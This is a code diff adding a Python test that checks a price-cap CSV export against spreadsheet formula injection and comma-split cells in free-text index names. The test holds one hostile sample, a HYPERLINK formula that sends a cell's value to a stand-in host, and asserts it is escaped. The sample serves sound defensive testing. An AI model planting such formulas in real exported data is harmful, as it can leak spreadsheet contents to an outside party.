@@ -115,3 +115,29 @@ def test_rebasing_an_index_in_a_stored_cap_is_price_neutral(network):
     assert b.results["energy.electricity.base_rebased"] == "80"
     assert b.results["energy.factor"] == a.results["energy.factor"]
     assert price_cap_recompute(cap=b) == {}
+
+
+def test_the_csv_export_is_one_cell_per_value_and_no_formula(network):
+    """Index names are free text (up to 60 characters): the regulator's CSV wrote them as
+    they were, so a name beginning with ``=`` was a formula to a spreadsheet and a comma
+    in one moved the cells after it into new columns."""
+    clause = INPUTS[PriceCap.Method.INDEXATION]["clauses"][0]
+    formula = '=HYPERLINK("http://x.example/?"&A1,"go")'
+    inputs = {"clauses": [{
+        **clause,
+        "cost_terms": [{"name": "power, grid", "weight": "0.5", "base": "100", "current": "120"}],
+        "market_term": {**clause["market_term"], "name": formula},
+    }]}
+    cap = price_cap_compute(network=network, method=PriceCap.Method.INDEXATION, period_start=DAY[0],
+                            period_end=DAY[1], inputs=inputs, now=NOW)
+
+    rows = list(csv.reader(io.StringIO(price_cap_export(cap=cap, fmt="csv"))))
+
+    assert {len(row) for row in rows} == {3}
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert ["inputs", "clauses.0.market_term.name", "'" + formula] in rows
+    assert ["inputs", "clauses.0.cost_terms.0.name", "power, grid"] in rows
+    assert ["figures", "energy.power, grid.weight", "0.5000000000"] in rows
+    # numbers stay numbers, a negative one too
+    assert ["limits", "energy_cap_per_mwh", format(cap.energy_cap_per_mwh, "f")] in rows
